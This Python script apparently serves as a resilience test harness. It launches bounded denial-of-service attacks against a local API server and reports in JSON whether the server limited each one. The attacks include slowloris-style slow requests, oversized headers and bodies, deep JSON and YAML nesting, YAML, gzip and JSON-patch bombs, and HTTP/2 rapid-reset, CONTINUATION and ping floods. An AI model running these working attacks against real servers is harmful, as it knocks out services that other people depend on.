"""Attacks on an API server, each bounded in time and count.

    attacker.py ATTACK PORT CERTIFICATE KEY

prints one line of JSON: what the server did about it. A client certificate is used, as an attacker with some
credentials can do more than one without.
"""

import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

PORT, CERTIFICATE, KEY = int(sys.argv[2]), sys.argv[3], sys.argv[4]
MAPS = "/api/v1/namespaces/default/configmaps"
# Nothing here waits longer for the server to do something about it.
PATIENCE = 90


def connect(protocol="http/1.1", known=True):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    if known:
        context.load_cert_chain(CERTIFICATE, KEY)
    plain = socket.create_connection(("127.0.0.1", PORT), timeout=PATIENCE)
    return context.wrap_socket(plain)


def rest(connection):
    """Everything up to the end of the connection, however it comes, and how long that took."""
    began, said = time.monotonic(), b""
    try:
        while piece := connection.recv(65536):
            said = (said + piece)[-65536:]
    except TimeoutError:
        return said, None
    except OSError:
        pass
    return said, time.monotonic() - began


def head(method, path, *headers):
    lines = [f"{method} {path} HTTP/1.1", "Host: x", *headers, "", ""]
    return "\r\n".join(lines).encode()


def code(said):
    """The status of an answer; 0 for none."""
    return int(said.split(b" ", 2)[1]) if said.startswith(b"HTTP/1.1 ") else 0


def told(content_type, body, method="POST", path=MAPS, *headers):
    """Sends one request with a body; returns the status."""
    connection = connect()
    length = f"Content-Length: {len(body)}"
    try:
        connection.sendall(
            head(method, path, f"Content-Type: {content_type}", length, "Connection: close", *headers) + body
        )
    except OSError:
        # The answer may come before everything is sent.
        pass
    said, _ = rest(connection)
    return {"code": code(said)}


def many(count, one):
    """That many at once, each in a thread; what they return."""
    results = [None] * count

    def work(place):
        try:
            results[place] = one()
        except OSError as error:
            results[place] = type(error).__name__

    threads = [threading.Thread(target=work, args=(place,)) for place in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


# --- HTTP/1.1: slowness ---------------------------------------------------------------------------------------


def silent():
    """Connections that say nothing at all."""

    def one():
        plain = socket.create_connection(("127.0.0.1", PORT), timeout=PATIENCE)
        return rest(plain)[1] is not None

    return {"closed": all(many(100, one))}


def mute():
    """Connections that say nothing after their handshake."""
    return {"closed": all(many(100, lambda: rest(connect())[1] is not None))}


def slow_headers():
    """A header that never ends, a byte a second."""

    def one():
        connection = connect()
        connection.sendall(b"GET /api HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        began = time.monotonic()
        while time.monotonic() - began < PATIENCE:
            try:
                connection.sendall(b"a")
                connection.settimeout(1)
                if not connection.recv(1000):
                    return True
            except TimeoutError:
                continue
            except OSError:
                return True
        return False

    return {"closed": all(many(50, one))}


def slow_body():
    """A body that never ends, a byte a second."""
    connection = connect()
    request = head("POST", MAPS + "?timeout=5s", "Content-Type: application/json", "Content-Length: 1000000")
    connection.sendall(request)
    connection.settimeout(1)
    began, said = time.monotonic(), b""
    while time.monotonic() - began < PATIENCE and b"\r\n\r\n" not in said:
        try:
            connection.sendall(b" ")
            piece = connection.recv(65536)
            if not piece:
                break
            said += piece
        except TimeoutError:
            continue
        except OSError:
            break
    return {"code": code(said)}


def unread():
    """Large answers that nobody reads."""

    def one():
        connection = connect()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for _ in range(20):
            connection.sendall(head("GET", MAPS))
        time.sleep(15)
        return True

    return {"done": all(many(50, one))}


# --- HTTP/1.1: size -------------------------------------------------------------------------------------------


def huge_header():
    connection = connect()
    try:
        connection.sendall(head("GET", "/api", "X-Huge: " + "a" * 4_000_000))
    except OSError:
        pass
    return {"code": code(rest(connection)[0])}


def huge_url():
    connection = connect()
    try:
        connection.sendall(head("GET", MAPS + "?labelSelector=" + "a" * 1_000_000, "Connection: close"))
    except OSError:
        pass
    return {"code": code(rest(connection)[0])}


def huge_body():
    """A body without a length that goes on for as long as it is taken."""
    connection = connect()
    chunk = b"10000\r\n" + b" " * 65536 + b"\r\n"
    sent = 0
    try:
        connection.sendall(head("POST", MAPS, "Content-Type: application/json", "Transfer-Encoding: chunked"))
        while sent < 2_000_000_000:
            connection.sendall(chunk)
            sent += 65536
    except OSError:
        pass
    return {"code": code(rest(connection)[0]), "bounded": sent < 100_000_000}


# --- Bodies that are small and mean much ----------------------------------------------------------------------


def deep_json():
    return told("application/json", b'{"a":' * 500_000)


def deep_yaml():
    return told("application/yaml", b"[" * 1_000_000)


def yaml_bomb():
    lines = ["a0: &a0 " + "x" * 100]
    for place in range(1, 40):
        aliases = ", ".join([f"*a{place - 1}"] * 10)
        lines.append(f"a{place}: &a{place} [{aliases}]")
    return told("application/yaml", "\n".join(lines).encode())


def gzip_bomb():
    import gzip

    body = gzip.compress(b" " * 500_000_000)
    return told("application/json", body, "POST", MAPS, "Content-Encoding: gzip")


def patch_bomb():
    """A JSON patch that doubles what it copies, again and again."""
    operations = [{"op": "add", "path": "/data/a", "value": "x" * 1000}]
    operations += [{"op": "add", "path": "/metadata/annotations", "value": {"a": {}}}]
    for place in range(60):
        operations.append({"op": "copy", "from": "/metadata", "path": f"/metadata/annotations/x{place}"})
    body = json.dumps(operations).encode()
    return told("application/json-patch+json", body, "PATCH", MAPS + "/target")


def patch_flood():
    """More operations than anybody needs."""
    operation = b'{"op":"test","path":"/kind","value":"ConfigMap"}'
    body = b"[" + b",".join([operation] * 50_000) + b"]"
    return told("application/json-patch+json", body, "PATCH", MAPS + "/target")


# --- HTTP/2 ---------------------------------------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A header, written out: never indexed, not compressed."""

    def text(value):
        value = value.encode()
        assert len(value) < 127
        return bytes([len(value)]) + value

    return b"\x10" + text(name) + text(value)


def request(stream, path):
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", path)]
    block = b"".join(field(name, value) for name, value in fields)
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


class Second:
    """An HTTP/2 connection that keeps no rules."""

    def __init__(self, settings=b""):
        self.connection = connect("h2")
        self.connection.setblocking(False)
        self.kinds, self.reset, self.away = {}, 0, None
        self.lock, self.over = threading.Lock(), threading.Event()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        threading.Thread(target=self.read, daemon=True).start()

    def send(self, bytes):
        """False once the server has had enough."""
        try:
            left = memoryview(bytes)
            while left:
                left = left[self.patiently(lambda: self.connection.send(left), False) :]
            return not self.over.is_set()
        except OSError:
            self.over.set()
            return False

    def exactly(self, count):
        said = b""
        while len(said) < count:
            piece = self.patiently(lambda: self.connection.recv(count - len(said)), True)
            if not piece:
                raise OSError("closed")
            said += piece
        return said

    def patiently(self, act, reads):
        """One thread at a time may use TLS, and neither may hold up the other."""
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            with self.lock:
                try:
                    return act()
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
            own = [self.connection]
            select.select(own if reads else [], [] if reads else own, [], 1)
        raise OSError("nothing happens")

    def read(self):
        try:
            while True:
                start = self.exactly(9)
                payload = self.exactly(int.from_bytes(start[:3], "big"))
                self.kinds[start[3]] = self.kinds.get(start[3], 0) + 1
                if start[3] == GOAWAY:
                    self.away = int.from_bytes(payload[4:8], "big")
        except OSError:
            self.over.set()

    def seen(self):
        self.over.wait(5)
        return {"over": self.over.is_set(), "away": self.away}


def rapid_reset():
    """Requests that are taken back at once."""
    attacked = Second()
    sent = 0
    for stream in range(1, 400_000, 2):
        cancelled = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        sent += 1
        if not attacked.send(request(stream, MAPS) + cancelled):
            break
    return {**attacked.seen(), "bounded": sent < 100_000}


def continuation_flood():
    """Headers that never end."""
    attacked = Second()
    attacked.send(frame(HEADERS, END_STREAM, 1, field(":method", "GET")))
    piece = b"".join(field("x-more", "a" * 100) for _ in range(100))
    sent = 0
    while sent < 500_000_000 and attacked.send(frame(CONTINUATION, 0, 1, piece)):
        sent += len(piece)
    return {**attacked.seen(), "bounded": sent < 50_000_000}


def ping_flood():
    """Pings and settings, for five seconds, with their answers unread or not."""
    attacked = Second()
    until = time.monotonic() + 5
    burst = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100
    while time.monotonic() < until and attacked.send(burst):
        pass
    return {"done": True}


def closed_window():
    """Large answers on many streams, of which not one byte may be sent."""
    attacked = [Second(struct.pack(">HI", 4, 0)) for _ in range(4)]
    for one in attacked:
        for stream in range(1, 400, 2):
            one.send(request(stream, MAPS))
    time.sleep(15)
    return {"done": True}


def watch_hoard():
    """As many watches as will be taken."""
    attacked = [Second() for _ in range(8)]
    for one in attacked:
        for stream in range(1, 4_000, 2):
            if not one.send(request(stream, MAPS + "?watch=1&resourceVersion=0")):
                break
    time.sleep(10)
    return {"done": True}


def hoard():
    """As many connections as will be taken from one address."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, 20_000))
    held = []
    for _ in range(6_000):
        try:
            held.append(socket.create_connection(("127.0.0.1", PORT), 5, ("127.0.0.2", 0)))
        except OSError:
            break
    time.sleep(2)
    closed = 0
    for one in held:
        one.setblocking(False)
        try:
            closed += one.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    return {"refused": closed > 0}


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]]()))
